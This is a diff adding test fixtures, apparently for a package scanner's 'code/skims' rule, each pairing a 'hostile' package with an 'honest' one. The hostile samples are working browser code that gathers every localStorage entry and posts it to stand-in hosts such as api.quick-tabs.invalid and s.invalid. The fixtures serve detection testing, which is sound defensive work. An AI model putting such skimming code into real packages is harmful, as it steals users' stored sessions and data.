@@ -92,4 +92,44 @@ export const variants: readonly Technique[] = [
       exports.call = (token, method) =>
         require('https').request({ hostname: 'api.telegram.org', path: '/bot' + token + '/' + method, method: 'POST' }).end()`),
   },
+  {
+    name: 'all that a page keeps, to a host that is called as the package is',
+    rule: 'code/skims',
+    hostile: {
+      manifest: { name: 'quick-tabs' },
+      files: {
+        'index.js': `exports.init = () => {
+          const all = {}
+          for (const k in localStorage) all[k] = localStorage.getItem(k)
+          const x = new XMLHttpRequest()
+          x.open('POST', 'https://api.quick-tabs.invalid/')
+          x.send(JSON.stringify(all))
+        }`,
+      },
+    },
+    honest: {
+      manifest: { name: 'quick-tabs' },
+      files: {
+        'index.js': `
+        const read = (name) => { for (const c of document.cookie.split(';')) { const [k, v] = c.trim().split('='); if (k === name) return v } }
+        exports.ping = () => fetch('https://api.quick-tabs.invalid/?u=' + read('qt_uid') + '&s=' + localStorage.getItem('qt_session'))`,
+      },
+    },
+  },
+  {
+    name: 'all that a page keeps, by number',
+    rule: 'code/skims',
+    hostile: esm(`
+      export function sync() {
+        const out = []
+        let i = localStorage.length
+        while (i--) { const k = localStorage.key(i); out.push(k + '=' + localStorage.getItem(k)) }
+        navigator.sendBeacon('https://s.invalid/c', out.join('&'))
+      }`),
+    honest: esm(`
+      export function clear(prefix) {
+        for (let i = localStorage.length - 1; i >= 0; i--) { const k = localStorage.key(i); if (k.startsWith(prefix)) localStorage.removeItem(k) }
+        return fetch('https://h.invalid/cleared', { method: 'POST' })
+      }`),
+  },
 ]
